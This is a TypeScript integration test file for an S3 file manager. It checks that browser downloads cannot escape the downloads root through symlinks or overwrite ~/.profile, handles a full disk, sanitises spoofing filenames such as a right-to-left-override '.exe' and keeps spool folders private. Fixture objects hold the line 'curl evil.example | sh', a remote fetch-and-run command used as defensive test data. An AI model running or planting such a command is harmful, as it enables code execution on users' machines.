/**
 * Local files under hostile input and faults (issue #11), against the test MinIO:
 * - a browser (web mode) downloads only inside the downloads root, and only the desktop app
 *   moves that root;
 * - a full disk (a real 4 MiB tmpfs, mounted here as root) says so in words, removes the
 *   partial file, and Retry works once there is room;
 * - awkward keys (Windows device names, trailing dots, bidirectional controls, names and paths
 *   too long, two keys for one local name) each land in a file of their own inside the folder;
 * - web mode's spools live in a private folder in the data folder and are swept.
 */
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { lstat, mkdir, mkdtemp, readdir, readFile, realpath, rm, symlink, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { PutObjectCommand, type S3Client } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import type { Result } from '../../../shared/result';
import type { TransferSnapshot } from '../../../shared/transfers';
import { dispatch } from '../../host/dispatch';
import { createServices } from '../create-services';
import { createSessionCustomerKeyStore } from '../keychain/customer-key-store';
import { createSessionSecretStore } from '../keychain/secret-store';
import { silentLogger } from '../logging/logger';
import { freshBucket, s3ClientFor, type FreshBucket } from '../../../../test/s3-fixtures';
import { startKeyAliasProxy, type KeyAliasProxy } from '../../../../test/transfer-key-proxy';
import { startTransferServices, type TestTransferServices } from '../../../../test/transfer-services';
import { defaultTransferSettings } from './transfer-settings-store';
import { writeAllAt } from './download-runner';

const s3 = inject('s3');

let bucket: FreshBucket;
let client: S3Client;
let work: string;

beforeAll(async () => {
  bucket = await freshBucket(s3);
  client = s3ClientFor(s3);
  work = await mkdtemp(join(tmpdir(), 's3fm-local-'));
});

afterAll(async () => {
  await bucket?.cleanup();
  client?.destroy();
  if (work) await rm(work, { recursive: true, force: true });
});

const put = (key: string, body: string | Uint8Array) =>
  client.send(new PutObjectCommand({ Bucket: bucket.name, Key: key, Body: body }));

/** A request as the WebSocket host delivers it: from a browser, in web mode. */
const fromBrowser = (transfers: TestTransferServices, channel: string, input: object) =>
  dispatch(transfers.services, channel, input, { host: 'ws' }) as Promise<Result<unknown>>;

/** Services over the test MinIO with the given data folder (and desktop, and tuning). */
const servicesIn = (dataDir: string, more: Partial<Parameters<typeof startTransferServices>[0]> = {}) =>
  startTransferServices({
    endpoint: s3.endpoint,
    accessKeyId: s3.accessKeyId,
    secretAccessKey: s3.secretAccessKey,
    dataDir,
    ...more,
  });

/** Every file below a folder, as '/'-separated relative paths with their text. */
async function tree(folder: string): Promise<Record<string, string>> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const files: Record<string, string> = {};
  for (const entry of entries.filter((e) => e.isFile())) {
    const path = join(entry.parentPath, entry.name);
    files[path.slice(folder.length + 1)] = await readFile(path, 'utf8');
  }
  return files;
}

describe('downloads asked for by a browser stay inside the downloads root', () => {
  let root: string;
  let home: string;
  let profile: string;
  let dataDir: string;
  let transfers: TestTransferServices;

  beforeAll(async () => {
    root = join(work, 'web-downloads');
    home = join(work, 'home');
    profile = join(home, '.profile');
    await mkdir(root, { recursive: true });
    await mkdir(home, { recursive: true });
    await writeFile(profile, 'the real profile\n');
    await put('web/.profile', 'curl evil.example | sh\n');
    await put('web/docs/.profile', 'curl evil.example | sh\n');
    // Web mode without the desktop app: the root is set in the settings file, as a person would.
    dataDir = await mkdtemp(join(work, 'data-'));
    await writeFile(
      join(dataDir, 'transfers-settings.json'),
      JSON.stringify({ ...defaultTransferSettings, downloadsRoot: root }),
    );
    transfers = await servicesIn(dataDir);
  });

  afterAll(async () => {
    await transfers?.dispose();
  });

  test('a folder outside the root is refused, so ~/.profile is never replaced', async () => {
    await symlink(home, join(root, 'link-to-home'));
    const outside = [home, join(root, '..', 'home'), join(root, 'link-to-home'), join(root, 'link-to-home', 'sub')];
    for (const targetDir of outside) {
      const result = await fromBrowser(transfers, 'transfers.download', {
        accountId: 'launch',
        bucket: bucket.name,
        items: ['web/.profile'],
        targetDir,
        onConflict: 'replace',
      });
      expect(result, targetDir).toMatchObject({
        ok: false,
        error: { code: 'invalid-input', message: expect.stringContaining(`downloads go only inside ${root}`) },
      });
    }
    const through = await fromBrowser(transfers, 'transfers.download', {
      accountId: 'launch',
      bucket: bucket.name,
      items: ['web/.profile'],
      targetDir: join(root, 'link-to-home'),
      onConflict: 'replace',
    });
    expect(!through.ok && through.error.message).toContain(`leads to ${await realpath(home)}`);
    expect(await readFile(profile, 'utf8')).toBe('the real profile\n');
    expect(await transfers.callRaw('transfers.list', {})).toEqual([]);
  });

  test('inside the root it works; a link inside that leads out is refused when the file is written', async () => {
    const target = join(root, 'in');
    await mkdir(join(target, 'web'), { recursive: true });
    await symlink(home, join(target, 'web', 'docs'));
    const result = await fromBrowser(transfers, 'transfers.download', {
      accountId: 'launch',
      bucket: bucket.name,
      items: ['web/'],
      targetDir: target,
      onConflict: 'replace',
    });
    expect(result.ok).toBe(true);
    const { batchId } = (result as { value: { batchId: string } }).value;
    expect(await transfers.batchFinished(batchId)).toMatchObject({ finished: 1, failed: 1 });
    expect(await readFile(join(target, 'web', '.profile'), 'utf8')).toBe('curl evil.example | sh\n');
    const refused = transfers.batchSnapshots(batchId).find((s) => s.key === 'web/docs/.profile');
    expect(refused?.error).toMatchObject({
      code: 'invalid-input',
      message: expect.stringContaining('leads outside the downloads folder'),
    });
    expect(await readFile(profile, 'utf8')).toBe('the real profile\n');
    expect(await readdir(home)).toEqual(['.profile']);
  });

  test('a browser cannot move the root: not through the settings, not through the picker', async () => {
    expect(await fromBrowser(transfers, 'transfers.downloadsRoot', {})).toEqual({
      ok: true,
      value: { path: root, chosen: true, confined: true, changeable: false },
    });
    for (const input of [{}, { reset: true }]) {
      expect(await fromBrowser(transfers, 'transfers.chooseDownloadsRoot', input)).toMatchObject({
        ok: false,
        error: { code: 'not-supported', message: expect.stringContaining('only in the desktop app') },
      });
    }
    const saved = await fromBrowser(transfers, 'transfers.saveSettings', {
      settings: { ...defaultTransferSettings, downloadsRoot: home },
    });
    expect(saved).toMatchObject({ ok: false, error: { code: 'invalid-input' } });
    expect(JSON.parse(await readFile(join(dataDir, 'transfers-settings.json'), 'utf8'))).toMatchObject({
      downloadsRoot: root,
    });
    // The download dialog starts in the root.
    expect(await fromBrowser(transfers, 'transfers.defaultDownloadDir', {})).toEqual({
      ok: true,
      value: { path: root },
    });
  });

  test('the desktop app chooses the root with its picker, and downloads anywhere itself', async () => {
    const picked = join(work, 'picked');
    await mkdir(picked);
    const desktop = {
      chooseFolder: async () => picked,
      reveal: () => undefined,
      notify: () => undefined,
      downloadsDir: () => join(work, 'os-downloads'),
      startDrag: () => undefined,
    };
    const withDesktop = await servicesIn(await mkdtemp(join(work, 'data-')), { desktop });
    try {
      const rootOf = (host: 'ipc' | 'ws') => dispatch(withDesktop.services, 'transfers.downloadsRoot', {}, { host });
      expect(await rootOf('ipc')).toEqual({
        ok: true,
        value: { path: join(work, 'os-downloads'), chosen: false, confined: false, changeable: true },
      });
      expect(await withDesktop.callRaw('transfers.chooseDownloadsRoot', {})).toMatchObject({ path: picked });
      expect(await rootOf('ws')).toEqual({
        ok: true,
        value: { path: picked, chosen: true, confined: true, changeable: false },
      });
      const inside = await fromBrowser(withDesktop, 'transfers.download', {
        accountId: 'launch',
        bucket: bucket.name,
        items: ['web/.profile'],
        targetDir: picked,
      });
      expect(inside.ok).toBe(true);
      await withDesktop.batchFinished((inside as { value: { batchId: string } }).value.batchId);
      expect(await readdir(picked)).toEqual(['.profile']);
      // The desktop window (IPC) names any folder: the person picked it there.
      const anywhere = join(work, 'desktop-anywhere');
      const { batchId } = await withDesktop.call<{ batchId: string }>('transfers.download', {
        bucket: bucket.name,
        items: ['web/.profile'],
        targetDir: anywhere,
        onConflict: 'replace',
      });
      expect(await withDesktop.batchFinished(batchId)).toMatchObject({ finished: 1 });
      expect(await withDesktop.callRaw('transfers.chooseDownloadsRoot', { reset: true })).toMatchObject({
        path: join(work, 'os-downloads'),
        chosen: false,
      });
    } finally {
      await withDesktop.dispose();
    }
  });
});

/** An error shaped as Node's fs throws it when the disk is full (or a quota used up). */
const fullDiskError = (code: 'ENOSPC' | 'EDQUOT') =>
  Object.assign(new Error(`${code}: no space left on device, write`), {
    code,
    errno: code === 'ENOSPC' ? -28 : -122,
    syscall: 'write',
  });

/** Mounts a tmpfs of `size` on `folder` (as root); the reason when it cannot. */
function mountTmpfs(folder: string, size: string): string | undefined {
  try {
    execFileSync('mount', ['-t', 'tmpfs', '-o', `size=${size},mode=0700`, 'tmpfs', folder], { stdio: 'pipe' });
    return undefined;
  } catch (error) {
    return String((error as { stderr?: unknown }).stderr ?? error).trim() || 'mount failed';
  }
}

describe('a full disk', () => {
  const MiB = 1024 * 1024;
  const three = randomBytes(3 * MiB);
  let disk: string;
  let unmountable: string | undefined;

  beforeAll(async () => {
    await put('big/three.bin', three);
    disk = await mkdtemp(join(tmpdir(), 's3fm-full-'));
    unmountable = mountTmpfs(disk, '4m');
    if (unmountable) {
      console.warn(`SKIPPED the real full-disk test: no tmpfs could be mounted (${unmountable}).`);
    }
  });

  afterAll(async () => {
    if (disk && !unmountable) execFileSync('umount', [disk]);
    if (disk) await rm(disk, { recursive: true, force: true });
  });

  test('on a real 4 MiB tmpfs: says so in words, removes the partial file, and Retry works once there is room', async (context) => {
    if (unmountable) context.skip();
    // 2.5 MiB taken: 1.5 MiB free for a 3 MiB object.
    await writeFile(join(disk, 'filler'), Buffer.alloc(2.5 * MiB, 1));
    const transfers = await servicesIn(await mkdtemp(join(work, 'data-')));
    try {
      const { batchId } = await transfers.call<{ batchId: string }>('transfers.download', {
        bucket: bucket.name,
        items: ['big/three.bin'],
        targetDir: disk,
        onConflict: 'replace',
      });
      expect(await transfers.batchFinished(batchId)).toMatchObject({ finished: 0, failed: 1 });
      const [failed] = transfers.batchSnapshots(batchId);
      expect(failed).toMatchObject({ state: 'failed', retries: 0, bytesDone: 0 });
      expect(failed?.error?.code).not.toBe('internal');
      expect(failed?.error?.message).toMatch(
        new RegExp(
          `^The disk is full: not enough space in "${disk}": this file needs 3 MiB and 1\\.5 MiB is free \\(1\\.5 MiB more is needed\\)\\. The partial download was removed\\.`,
        ),
      );
      expect(failed?.error?.message).toMatch(/then Retry\.$/);
      // The partial file is gone: the disk is as it was.
      expect(await readdir(disk)).toEqual(['filler']);

      await rm(join(disk, 'filler'));
      expect(await transfers.callRaw('transfers.retry', { ids: [failed?.id] })).toEqual({ retried: 1 });
      await transfers.waitFor(() => transfers.snapshots.get(failed?.id ?? '')?.state === 'finished');
      expect((await readFile(join(disk, 'three.bin'))).equals(three)).toBe(true);
      expect(await readdir(disk)).toEqual(['three.bin']);
    } finally {
      await transfers.dispose();
    }
  });

  test.each(['EDQUOT', 'ENOSPC'] as const)(
    'through the write seam (%s, as fs throws it): the same words, no partial file, and Retry works',
    async (code) => {
      const folder = await mkdtemp(join(work, 'seam-'));
      let full = true;
      const transfers = await servicesIn(await mkdtemp(join(work, 'data-')), {
        tuning: {
          writeAt: async (handle, pieces, position) => {
            // The first pieces land (a partial file exists), then the disk is "full".
            if (full && position > 0) throw fullDiskError(code);
            return writeAllAt(handle, pieces, position);
          },
        },
      });
      try {
        const { batchId } = await transfers.call<{ batchId: string }>('transfers.download', {
          bucket: bucket.name,
          items: ['big/three.bin'],
          targetDir: folder,
        });
        expect(await transfers.batchFinished(batchId)).toMatchObject({ failed: 1 });
        const [failed] = transfers.batchSnapshots(batchId);
        expect(failed?.error).toMatchObject({
          code: 'invalid-input',
          message: expect.stringMatching(
            code === 'EDQUOT'
              ? `^Your disk quota is used up in "${folder}": this file needs 3 MiB and `
              : `^The disk is full: not enough space in "${folder}": this file needs 3 MiB and `,
          ),
        });
        expect(failed?.retries).toBe(0);
        expect(await readdir(folder)).toEqual([]);
        full = false;
        await transfers.callRaw('transfers.retry', { ids: [failed?.id] });
        await transfers.waitFor(() => transfers.snapshots.get(failed?.id ?? '')?.state === 'finished');
        expect((await readFile(join(folder, 'three.bin'))).equals(three)).toBe(true);
      } finally {
        await transfers.dispose();
      }
    },
  );
});

/** A folder below `outer` whose path is `length` bytes long, in names of at most 250 bytes. */
function deepFolder(outer: string, length: number): string {
  const names: string[] = [];
  for (let left = length - outer.length; left > 0;) {
    const size = Math.max(3, Math.min(250, left - 1));
    names.push(`${String(names.length).padStart(2, '0')}${'f'.repeat(size - 2)}`);
    left -= size + 1;
  }
  return join(outer, ...names);
}

describe('awkward keys each land in a file of their own inside the folder', () => {
  /** Shown key → stored key: MinIO refuses a segment over 255 bytes (AWS takes keys up to 1,024). */
  const longName = `${'L'.repeat(300)}.pdf`;
  const aliases: Record<string, string> = { [`names/${longName}`]: 'names/alias-long' };
  const plainKeys = [
    'names/CONIN$',
    'names/conout$.log',
    'names/trailing. ',
    'names/x\\y',
    'names/x_y',
    'names/Report.txt',
    'names/report.txt',
    'names/invoice\u202Efdp.exe',
    `names/deep/${'d'.repeat(200)}.txt`,
  ];
  const allKeys = [...plainKeys, ...Object.keys(aliases)];
  let proxy: KeyAliasProxy;

  beforeAll(async () => {
    for (const key of plainKeys) await put(key, `content of ${key}`);
    for (const [shown, stored] of Object.entries(aliases)) await put(stored, `content of ${shown}`);
    proxy = await startKeyAliasProxy({
      target: s3.endpoint,
      region: s3.region,
      accessKeyId: s3.accessKeyId,
      secretAccessKey: s3.secretAccessKey,
      aliases,
    });
  });

  afterAll(async () => {
    await proxy?.stop();
  });

  test.each([
    {
      rules: 'posix' as const,
      // A folder 3,950 bytes deep: short names still fit under Linux's PATH_MAX (4,096), long ones do not.
      deep: true,
      named: {
        'names/CONIN$': 'names/CONIN$',
        'names/conout$.log': 'names/conout$.log',
        'names/trailing. ': 'names/trailing__',
        'names/x\\y': 'names/x_y',
        'names/x_y': 'names/x_y (1)',
        'names/Report.txt': 'names/Report.txt',
        'names/report.txt': 'names/report.txt',
        'names/invoice\u202Efdp.exe': 'names/invoice_fdp.exe',
      },
    },
    {
      rules: 'win32' as const,
      deep: false,
      named: {
        'names/CONIN$': 'names/_CONIN$',
        'names/conout$.log': 'names/_conout$.log',
        'names/trailing. ': 'names/trailing__',
        'names/x\\y': 'names/x_y',
        'names/x_y': 'names/x_y (1)',
        // Windows (and macOS) ignore case: "report.txt" would have replaced "Report.txt".
        'names/Report.txt': 'names/Report.txt',
        'names/report.txt': 'names/report (1).txt',
        'names/invoice\u202Efdp.exe': 'names/invoice_fdp.exe',
      },
    },
  ])(
    'with $rules file-name rules, with "replace", and the notes say what was renamed',
    async ({ rules, deep, named }) => {
      const outer = await mkdtemp(join(work, `names-${rules}-`));
      const target = deep ? deepFolder(outer, 3950) : join(outer, 'target');
      await mkdir(target, { recursive: true });
      const transfers = await startTransferServices({
        endpoint: proxy.url,
        accessKeyId: s3.accessKeyId,
        secretAccessKey: s3.secretAccessKey,
        tuning: { pathRules: rules },
      });
      try {
        const { batchId } = await transfers.call<{ batchId: string }>('transfers.download', {
          bucket: bucket.name,
          items: ['names/'],
          targetDir: target,
          onConflict: 'replace',
        });
        const outcome = await transfers.batchFinished(batchId);
        expect(outcome).toMatchObject({ finished: allKeys.length, failed: 0, skipped: 0 });

        // One file per key, each with its own content, all inside the folder.
        const written = await tree(target);
        expect(Object.keys(written)).toHaveLength(allKeys.length);
        expect(Object.values(written).sort()).toEqual(allKeys.map((key) => `content of ${key}`).sort());
        const byKey = new Map(transfers.batchSnapshots(batchId).map((s) => [s.key, s]));
        const relativeOf = (snapshot: TransferSnapshot | undefined) =>
          snapshot ? snapshot.localPath.slice(resolve(target).length + 1) : undefined;
        for (const [key, local] of Object.entries(named)) {
          expect(relativeOf(byKey.get(key)), key).toBe(local);
          expect(written[local], key).toBe(`content of ${key}`);
        }
        for (const snapshot of byKey.values()) {
          expect(snapshot.localPath.startsWith(`${resolve(target)}/`)).toBe(true);
          // Every path fits the system's limit, with room for the temporary file.
          const limit = rules === 'win32' ? 259 : 4095;
          const length = rules === 'win32' ? snapshot.localPath.length : Buffer.byteLength(snapshot.localPath);
          expect(length).toBeLessThanOrEqual(limit - 32);
        }

        // A name over 255 bytes is shortened with a hash and keeps its extension.
        const long = byKey.get(`names/${longName}`);
        expect(long?.name).toMatch(/^L+~[0-9a-f]{8}\.pdf$/);
        expect(Buffer.byteLength(long?.name ?? '')).toBeLessThanOrEqual(255);
        const deepFile = byKey.get(`names/deep/${'d'.repeat(200)}.txt`);
        expect(deepFile?.name).toMatch(/\.txt$/);
        if (deep) {
          expect(deepFile?.name).toMatch(/^d+~[0-9a-f]{8}\.txt$/);
          expect(deepFile?.note).toMatch(/the path was longer than this system allows \(4095\)/);
        }

        // The notes say what became of each renamed key.
        expect(byKey.get('names/x_y')?.note).toBe(
          'Key made safe: saved as "names/x_y (1)" (another key of this download is saved as "names/x_y").',
        );
        expect(byKey.get('names/trailing. ')?.note).toMatch(/a trailing dot or space became '_'/);
        expect(byKey.get('names/invoice\u202Efdp.exe')?.note).toMatch(/invisible text-direction characters became '_'/);
        expect(long?.note).toMatch(/a name longer than 255 bytes was shortened/);
        if (rules === 'win32') {
          expect(byKey.get('names/CONIN$')?.note).toMatch(/"CONIN\$" is a name Windows reserves/);
          expect(byKey.get('names/report.txt')?.note).toMatch(/another key of this download is saved as/);
        } else {
          expect(byKey.get('names/CONIN$')?.note).toBeNull();
        }
        expect(await readdir(outer)).toEqual([deep ? `00${'f'.repeat(248)}` : 'target']);
      } finally {
        await transfers.dispose();
      }
    },
    60_000,
  );
});

describe("web mode's spools", () => {
  const openSpool = async (transfers: TestTransferServices) => {
    const opened = await fromBrowser(transfers, 'transfers.openSpool', {});
    expect(opened.ok).toBe(true);
    return (opened as { value: { spoolId: string } }).value.spoolId;
  };

  test('live in a private folder in the data folder, not the shared temporary folder', async () => {
    const dataDir = await mkdtemp(join(work, 'data-'));
    // The app's own wiring (as web mode builds it), with no spool folder chosen by a test.
    const services = createServices({
      appInfo: { name: 'S3 File Manager', version: 'test', mode: 'web' },
      dataDir,
      keychain: createSessionSecretStore(),
      customerKeys: createSessionCustomerKeyStore(),
      logger: silentLogger,
    });
    try {
      const opened = await dispatch(services, 'transfers.openSpool', {}, { host: 'ws' });
      expect(opened.ok).toBe(true);
      const { spoolId } = (opened as { value: { spoolId: string } }).value;
      const info = await lstat(join(dataDir, 'spool'));
      expect(info.isDirectory()).toBe(true);
      expect(info.mode & 0o777).toBe(0o700);
      expect(info.uid).toBe(process.getuid?.());
      expect(await readdir(join(dataDir, 'spool'))).toEqual([spoolId]);
      expect(await lstat(join(tmpdir(), 's3fm-spool', spoolId)).catch(() => undefined)).toBeUndefined();
    } finally {
      await services.dispose();
    }
  });

  test('a spool folder that is a link is refused; nothing is written through it', async () => {
    const dataDir = await mkdtemp(join(work, 'data-'));
    const elsewhere = await mkdtemp(join(work, 'elsewhere-'));
    await symlink(elsewhere, join(dataDir, 'spool'));
    const transfers = await servicesIn(dataDir);
    try {
      expect(await fromBrowser(transfers, 'transfers.openSpool', {})).toMatchObject({
        ok: false,
        error: { code: 'access-denied', message: expect.stringContaining('is a symbolic link') },
      });
      expect(await readdir(elsewhere)).toEqual([]);
    } finally {
      await transfers.dispose();
    }
  });

  test('left-over spools go at start; spools never queued go after the stale time, swept periodically', async () => {
    const dataDir = await mkdtemp(join(work, 'data-'));
    const leftOver = join(dataDir, 'spool', '33333333-3333-4333-8333-333333333333');
    await mkdir(leftOver, { recursive: true, mode: 0o700 });
    await writeFile(join(leftOver, 'dropped.txt'), 'from a page closed long ago');
    const longAgo = new Date(Date.now() - 31 * 60_000);
    await utimes(leftOver, longAgo, longAgo);
    const transfers = await servicesIn(dataDir, { tuning: { spoolStaleMs: 400, spoolSweepMs: 100 } });
    try {
      await transfers.waitFor(async () => !(await readdir(join(dataDir, 'spool'))).includes(leftOver.slice(-36)));
      const spoolId = await openSpool(transfers);
      await transfers.spool.write(
        spoolId,
        'a.txt',
        (async function* () {
          yield Buffer.from('dropped, never queued');
        })(),
      );
      expect(await readdir(join(dataDir, 'spool'))).toEqual([spoolId]);
      await transfers.waitFor(async () => (await readdir(join(dataDir, 'spool'))).length === 0, 5_000, 'the sweep');
      // The browser's late write is refused in words, not written to a folder nobody cleans.
      await expect(
        transfers.spool.write(
          spoolId,
          'b.txt',
          (async function* () {
            yield Buffer.from('late');
          })(),
        ),
      ).rejects.toMatchObject({ code: 'invalid-input' });
    } finally {
      await transfers.dispose();
    }
  });
});
